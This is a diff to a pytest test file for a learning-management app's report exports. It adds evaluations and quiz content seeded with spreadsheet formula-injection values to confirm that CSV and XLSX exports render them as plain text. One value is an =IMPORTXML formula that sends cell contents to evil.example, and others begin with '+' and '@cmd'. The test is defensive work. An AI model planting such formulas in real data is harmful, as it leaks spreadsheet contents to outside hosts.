@@ -22,6 +22,8 @@ from certificates import services as certificate_services
 from coordinators.models import StudyRoster
 from courses.models import CreditType
 from courses.permissions import ensure_review_workflow
+from enrollments.models import CourseEvaluation, Enrollment, QuizAttempt
+from enrollments.services import question_snapshot
 from organizations import services as organization_services
 from organizations.models import Organization
 from reports import services as report_services
@@ -64,13 +66,22 @@ FOREGROUND = [
     ("/admin/reports/workflow_tasks/", {}),
     ("/admin/redirects/", {}),
     ("/admin/organizations/", {}),
+    (f"{REPORTS}evaluations/", {}),
+    (f"{REPORTS}evaluation-comments/", {}),
+    (f"{REPORTS}question-statistics/", lambda world: {"quiz": world["quiz"].pk}),
 ]
 BACKGROUND = {
     "course_completion": {},
     "learner_progress": {},
     "organization_roster": {"organization": ORGANIZATION},
     "learner_transcript": {"learner_email": EMAIL},
+    "evaluation_summary": {},
+    "evaluation_comments": {},
+    "question_statistics": lambda world: {"quiz_id": world["quiz"].pk, "attempts": "all"},
 }
+COMMENT = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'
+PROMPT = "+SUM(A1:A9) is which?"
+OPTION = "@cmd option"
 
 
 @pytest.fixture
@@ -109,7 +120,21 @@ def hostile_world(admin):
     roster = StudyRoster.objects.create(organization=site, name=STUDY_NAME,
                                         on_date=timezone.localdate())  # fmt: skip
     roster.courses.set([course, other])
-    return {"learner": learner, "coordinator": coordinator, "roster": roster}
+    enrollment = Enrollment.objects.get(user=learner, course=course)
+    CourseEvaluation.objects.create(
+        enrollment=enrollment, overall=2, relevance=3, objectives_met=True, free_of_bias=False,
+        would_recommend=False, practice_change=COMMENT, comments=COMMENT,
+    )  # fmt: skip
+    quiz = factories.module(course, "Quiz", quiz_kind="knowledge_check", questions=[
+        factories.block("question", {"prompt": PROMPT, "explanation": "<p>x</p>", "options": [
+            {"text": OPTION, "correct": True}, {"text": "-1", "correct": False}]}),
+    ])  # fmt: skip
+    snapshot = question_snapshot(quiz)
+    QuizAttempt.objects.create(
+        enrollment=enrollment, module=quiz, number=1, questions=snapshot,
+        answers={snapshot[0]["id"]: [0]}, score=100, passed=True,
+    )  # fmt: skip
+    return {"learner": learner, "coordinator": coordinator, "roster": roster, "quiz": quiz}
 
 
 def content_of(response) -> bytes:
@@ -151,6 +176,7 @@ def test_every_export_route_writes_every_hostile_cell_as_plain_text(client, admi
     client.force_login(admin)
     outputs: dict = {}
     for url, params in FOREGROUND:
+        params = params(hostile_world) if callable(params) else params
         for export_format in ("csv", "xlsx"):
             response = client.get(url, {**params, "export": export_format})
             assert response.status_code == 200, (url, export_format)
@@ -158,6 +184,7 @@ def test_every_export_route_writes_every_hostile_cell_as_plain_text(client, admi
             cells = csv_cells(data) if export_format == "csv" else xlsx_cells(data)
             check(outputs, f"{url} {export_format}", cells)
     for report, params in BACKGROUND.items():
+        params = params(hostile_world) if callable(params) else params
         for export_format in ("csv", "xlsx"):
             export = ReportExport.objects.create(
                 user=admin, report=report, params=params, export_format=export_format
